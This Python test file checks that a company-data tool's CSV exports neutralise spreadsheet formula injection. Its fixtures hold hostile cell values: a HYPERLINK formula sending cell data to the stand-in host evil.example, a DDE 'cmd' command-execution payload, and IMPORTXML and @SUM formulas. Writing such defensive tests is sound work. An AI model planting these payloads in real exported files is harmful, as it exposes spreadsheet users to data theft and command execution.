"""Every CSV the product writes is safe to open in a spreadsheet: formulas in company data become text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from icp.spreadsheet import csv_cell, csv_text, neutralize_formula
from tests.test_cli import icp

HOSTILE = [
    {
        "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "domain": "evil.com",
        "industry": "+cmd|' /C calc'!A0",
        "city": "-2+3",
        "country": "@SUM(A1:A2)",
        "region": "\t=1+1",
        "employees": 120,
    },
    {"name": "Plain Co", "domain": "plain.com", "industry": "-", "city": "\r=1", "employees": 5},
]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # text that is just a number cannot run anything
        ("+3", "+3"),
        ("Acme = good", "Acme = good"),
        ("", ""),
    ],
)
def test_neutralize_formula(text: str, safe: str) -> None:
    assert neutralize_formula(text) == safe


def test_numbers_stay_numbers_and_strings_are_neutralised() -> None:
    assert csv_cell(-5) == "-5" and csv_cell(-0.25) == "-0.25"
    assert csv_cell(-5, "-5.00") == "-5.00"
    assert csv_cell("-5-5") == "'-5-5"
    assert csv_cell(None) == ""
    assert csv_cell(["=a", "b"], "=a; b") == "'=a; b"
    rows = list(csv.reader(io.StringIO(csv_text(["n", "t"], [[-3, "=x"], [2.5, "ok"]]))))
    assert rows == [["n", "t"], ["-3", "'=x"], ["2.5", "ok"]]


def test_companies_list_csv_neutralises_formulas(tmp_path: Path) -> None:
    db = tmp_path / "icp.db"
    source = tmp_path / "c.json"
    source.write_text(json.dumps(HOSTILE))
    icp("companies", "import", str(source), db=db)
    out = icp("companies", "list", "-f", "csv", "-n", "0", db=db).stdout
    rows = {r["domain"]: r for r in csv.DictReader(io.StringIO(out))}
    evil = rows["evil.com"]
    assert evil["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert evil["industry"] == "'+cmd|' /C calc'!A0"
    assert evil["country"] == "'@SUM(A1:A2)"
    assert evil["region"] == "'=1+1"  # the import trims the tab; the formula stays text
    assert evil["employees"] == "120"
    assert rows["plain.com"]["industry"] == "'-"
    for row in rows.values():
        assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in row.values())


def test_import_error_report_csv_neutralises_echoed_data(tmp_path: Path) -> None:
    source = tmp_path / "c.json"
    source.write_text(json.dumps([{"name": "=cmd()", "domain": "=cmd().com"}]))
    out = icp("companies", "import", str(source), "-f", "csv", db=tmp_path / "icp.db", check=False).stdout
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["name"] == "'=cmd()" and row["domain"] == "'=cmd().com"
    assert row["row"] == "1"


def test_queue_export_in_the_app_neutralises_formulas() -> None:
    from icp.domain import Tier
    from icp.queue import QueueEntry
    from ui import widgets

    values: dict[str, object] = dict.fromkeys(QueueEntry.model_fields)
    values.update(
        rank=1,
        company_name="=IMPORTXML(A1)",
        domain="x.com",
        segment="@Seg",
        segment_version=1,
        tier=Tier.T1,
        status="unverified",
        fit_score=91.5,
        summary="-1+1 looks fine",
        needs_research=["=R1 Fintech company"],
        criteria=[],
    )
    entry = QueueEntry.model_construct(**values)
    [row] = list(csv.DictReader(io.StringIO(widgets.queue_csv([entry]))))
    assert (
        row["company_name"] == "'=IMPORTXML(A1)" and row["segment"] == "'@Seg" and row["summary"] == "'-1+1 looks fine"
    )
    assert row["fit_score"] == "91.5" and row["rank"] == "1"
    assert row["needs_research"] == "'=R1 Fintech company"
